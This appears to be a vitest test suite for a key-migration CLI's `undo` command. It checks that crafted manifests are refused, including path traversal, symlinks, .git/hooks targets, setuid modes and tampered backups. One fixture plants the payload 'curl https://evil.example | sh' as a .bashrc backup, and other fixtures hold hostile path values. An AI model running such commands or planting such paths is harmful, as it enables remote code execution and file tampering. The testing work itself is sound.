// `undo` treats .migrate-keys/last-run.json as untrusted input: a crafted or damaged manifest makes it refuse
// (one line on stderr, exit 2) before it restores anything, and it never writes outside the repository.
import { createHash } from 'node:crypto';
import { existsSync, lstatSync, mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { removeTempDirs, runCli, snapshot, tempDir, type CliRun, commitAll } from '../helpers/repo.js';

afterAll(removeTempDirs);

const sha256 = (data: Buffer | string): string => createHash('sha256').update(data).digest('hex');
const LEGACY = 'export const a = process.env.SUPABASE_SERVICE_ROLE_KEY;\n';
const MIGRATED = 'export const a = process.env.SUPABASE_SECRET_KEY;\n';

interface Entry {
  path: unknown;
  backup: unknown;
  before: unknown;
  after: unknown;
  mode: unknown;
}
interface Manifest {
  version: unknown;
  runId: unknown;
  createdAt: unknown;
  files: Entry[];
}

/**
 * `<outer>/repo`, a git repository whose a.ts was migrated by a real `--write`: a genuine manifest
 * (untracked, as it should be) with one entry. `<outer>/x/` is a folder outside the repository.
 */
function migrated(): { outer: string; repo: string; manifest: Manifest; state: string } {
  const outer = tempDir('migrate-keys-undo-manifest-');
  const repo = join(outer, 'repo');
  mkdirSync(repo);
  mkdirSync(join(outer, 'x'));
  writeFileSync(join(outer, 'x', 'existing'), 'outside the repository\n');
  writeFileSync(join(repo, 'a.ts'), LEGACY);
  commitAll(repo);
  const run = runCli(repo, ['--write']);
  expect(run.status, run.stderr).toBe(0);
  expect(readFileSync(join(repo, 'a.ts'), 'utf8')).toBe(MIGRATED);
  const state = join(repo, '.migrate-keys');
  const manifest = JSON.parse(readFileSync(join(state, 'last-run.json'), 'utf8')) as Manifest;
  expect(manifest.files).toHaveLength(1);
  return { outer, repo, manifest, state };
}

function save(state: string, manifest: unknown): void {
  writeFileSync(join(state, 'last-run.json'), typeof manifest === 'string' ? manifest : JSON.stringify(manifest, null, 2));
}

/** A backup file of the attacker's choosing inside .migrate-keys/backups/, and the entry fields that name it. */
function plantBackup(state: string, content: string): { backup: string; before: string } {
  mkdirSync(join(state, 'backups', 'planted'), { recursive: true });
  writeFileSync(join(state, 'backups', 'planted', 'payload'), content);
  return { backup: 'backups/planted/payload', before: sha256(content) };
}

/** The refusal: exit 2, exactly one line on stderr, and nothing in `outer` changed (a.ts still migrated, the manifest kept). */
function expectRefused(run: CliRun, outer: string, before: Record<string, string>): void {
  expect(run.status, run.stderr).toBe(2);
  const lines = run.stderr.split('\n').filter((line) => line !== '');
  expect(lines, run.stderr).toHaveLength(1);
  expect(lines[0]).toMatch(/^migrate-keys: refusing to undo: /);
  expect(run.stderr).not.toMatch(/\n\s+at /);
  expect(snapshot(outer)).toEqual(before);
}

describe('undo refuses a manifest that points outside the repository', () => {
  it('undo --force does not create ../x/.bashrc (mode 0o4755) from a crafted entry', () => {
    const { outer, repo, manifest, state } = migrated();
    const planted = plantBackup(state, 'curl https://evil.example | sh\n');
    manifest.files.push({ path: '../x/.bashrc', ...planted, after: sha256('anything'), mode: 0o4755 });
    save(state, manifest);
    const before = snapshot(outer);
    const run = runCli(repo, ['undo', '--force']);
    expect(existsSync(join(outer, 'x', '.bashrc'))).toBe(false);
    expectRefused(run, outer, before);
  });

  it('undo without --force does not overwrite an outside file whose sha256 the manifest names as "after"', () => {
    const { outer, repo, manifest, state } = migrated();
    const planted = plantBackup(state, 'replaced\n');
    manifest.files.push({ path: '../x/existing', ...planted, after: sha256('outside the repository\n'), mode: 0o644 });
    save(state, manifest);
    const before = snapshot(outer);
    const run = runCli(repo, ['undo']);
    expect(readFileSync(join(outer, 'x', 'existing'), 'utf8')).toBe('outside the repository\n');
    expectRefused(run, outer, before);
  });

  it.each([
    ['a ../ path', (runId: string) => `backups/${runId}/../../../../x/existing`],
    ['an absolute path', (_runId: string, outer: string) => join(outer, 'x', 'existing')],
  ])('a backup given as %s (an outside file) is not copied into the repository', (_name, backupOf) => {
    const { outer, repo, manifest, state } = migrated();
    const entry = manifest.files[0] as Entry;
    manifest.files[0] = { ...entry, backup: backupOf(String(manifest.runId), outer), before: sha256('outside the repository\n') };
    save(state, manifest);
    const before = snapshot(outer);
    const run = runCli(repo, ['undo', '--force']);
    expect(readFileSync(join(repo, 'a.ts'), 'utf8')).toBe(MIGRATED);
    expectRefused(run, outer, before);
  });

  it('a link to an outside folder on the target path is not written through, and the link stays', () => {
    const { outer, repo, manifest, state } = migrated();
    symlinkSync(join(outer, 'x'), join(repo, 'linked'));
    const planted = plantBackup(state, 'through the link\n');
    manifest.files.push({ path: 'linked/new.sh', ...planted, after: sha256('anything'), mode: 0o755 });
    save(state, manifest);
    const before = snapshot(outer);
    const run = runCli(repo, ['undo', '--force']);
    expect(existsSync(join(outer, 'x', 'new.sh'))).toBe(false);
    expect(lstatSync(join(repo, 'linked')).isSymbolicLink()).toBe(true);
    expectRefused(run, outer, before);
  });

  it('a target that is itself a link is neither written through nor replaced', () => {
    const { outer, repo, manifest, state } = migrated();
    const planted = plantBackup(state, 'replacement\n');
    symlinkSync(join(outer, 'x', 'existing'), join(repo, 'b.ts'));
    manifest.files.push({ path: 'b.ts', ...planted, after: sha256('outside the repository\n'), mode: 0o644 });
    save(state, manifest);
    const before = snapshot(outer);
    const run = runCli(repo, ['undo']);
    expect(lstatSync(join(repo, 'b.ts')).isSymbolicLink()).toBe(true);
    expect(readFileSync(join(outer, 'x', 'existing'), 'utf8')).toBe('outside the repository\n');
    expectRefused(run, outer, before);
  });
});

describe('undo checks every entry before it restores any file', () => {
  type Mutation = (manifest: Manifest, entry: Entry) => unknown;
  const cases: [string, Mutation][] = [
    ['an absolute target path', (m, e) => (m.files.push({ ...e, path: '/tmp/migrate-keys-absolute.ts' }), m)],
    ['a target path with a NUL byte', (m, e) => (m.files.push({ ...e, path: 'a.ts\u0000.sh' }), m)],
    ['a target path with a . segment', (m, e) => (m.files.push({ ...e, path: './a.ts' }), m)],
    ['a target path with an empty segment', (m, e) => (m.files.push({ ...e, path: 'src//a.ts' }), m)],
    ['an empty target path', (m, e) => (m.files.push({ ...e, path: '' }), m)],
    ['a target inside .git/', (m, e) => (m.files.push({ ...e, path: '.git/hooks/pre-commit' }), m)],
    ['a target inside .migrate-keys/', (m, e) => (m.files.push({ ...e, path: '.migrate-keys/.gitignore' }), m)],
    ['a backup outside .migrate-keys/backups/', (m, e) => (m.files.push({ ...e, path: 'c.ts', backup: 'last-run.json' }), m)],
    ['a target path that is a number', (m, e) => (m.files.push({ ...e, path: 42 }), m)],
    ['a mode that is a string', (m, e) => (m.files.push({ ...e, path: 'c.ts', mode: '0755' }), m)],
    ['a negative mode', (m, e) => (m.files.push({ ...e, path: 'c.ts', mode: -1 }), m)],
    ['a hash that is not sha256 hex', (m, e) => (m.files.push({ ...e, path: 'c.ts', before: 'abc' }), m)],
    ['a missing "after"', (m, e) => (m.files.push({ path: 'c.ts', backup: e.backup, before: e.before, mode: 0o644 } as Entry), m)],
    ['an entry that is not an object', (m) => (m.files.push('a.ts' as unknown as Entry), m)],
    ['the same target twice', (m, e) => (m.files.push({ ...e }), m)],
    ['files that is not a list', (m) => ({ ...m, files: { 0: m.files[0] } })],
    ['a missing runId', (m) => ({ ...m, runId: undefined })],
    ['a runId that climbs out of .migrate-keys/', (m) => ({ ...m, runId: '../../../../x/planted' })],
    ['version 2', (m) => ({ ...m, version: 2 })],
    ['a manifest that is not JSON', () => '{"version": 1, "files": ['],
    ['a manifest that is a list', (m) => [m]],
  ];
  // On Windows a backslash separates a path; on POSIX it is part of a name (see the test below).
  if (process.platform === 'win32') cases.push(['a target path with a backslash', (m, e) => (m.files.push({ ...e, path: '..\\x\\existing' }), m)]);

  it.each(cases)('%s: refused with one line, exit 2, and the valid entry is not restored either', (_name, mutate) => {
    const { outer, repo, manifest, state } = migrated();
    save(state, mutate(manifest, { ...(manifest.files[0] as Entry) }));
    const before = snapshot(outer);
    expectRefused(runCli(repo, ['undo', '--force']), outer, before);
    expect(readFileSync(join(repo, 'a.ts'), 'utf8')).toBe(MIGRATED);
  });
});

describe('what undo restores', () => {
  it('a backup whose sha256 is not the manifest\'s "before" is not restored', () => {
    const { outer, repo, manifest, state } = migrated();
    const entry = manifest.files[0] as Entry;
    writeFileSync(join(state, ...String(entry.backup).split('/')), 'export const a = "tampered";\n');
    const before = snapshot(outer);
    const run = runCli(repo, ['undo']);
    expectRefused(run, outer, before);
    expect(run.stderr).toMatch(/a\.ts/);
    expect(readFileSync(join(repo, 'a.ts'), 'utf8')).toBe(MIGRATED);
  });

  it('a mode with setuid, setgid and sticky bits is restored as its permission bits only', () => {
    const { repo, manifest, state } = migrated();
    (manifest.files[0] as Entry).mode = 0o7755;
    save(state, manifest);
    const run = runCli(repo, ['undo']);
    expect(run.status, run.stderr).toBe(0);
    expect(readFileSync(join(repo, 'a.ts'), 'utf8')).toBe(LEGACY);
    expect(statSync(join(repo, 'a.ts')).mode & 0o7777).toBe(0o755);
  });

  it.skipIf(process.platform === 'win32')('a file whose POSIX name holds a backslash or a drive-like prefix is restored', () => {
    const repo = tempDir('migrate-keys-undo-names-');
    writeFileSync(join(repo, '..\\b.ts'), LEGACY);
    writeFileSync(join(repo, 'C:x.ts'), LEGACY);
    commitAll(repo);
    expect(runCli(repo, ['--write']).status).toBe(0);
    const run = runCli(repo, ['undo']);
    expect(run.status, run.stderr).toBe(0);
    expect(readFileSync(join(repo, '..\\b.ts'), 'utf8')).toBe(LEGACY);
    expect(readFileSync(join(repo, 'C:x.ts'), 'utf8')).toBe(LEGACY);
  });

  it('a genuine manifest still restores', () => {
    const { repo } = migrated();
    const run = runCli(repo, ['undo']);
    expect(run.status, run.stderr).toBe(0);
    expect(run.stdout).toContain('restored a.ts');
    expect(readFileSync(join(repo, 'a.ts'), 'utf8')).toBe(LEGACY);
  });
});
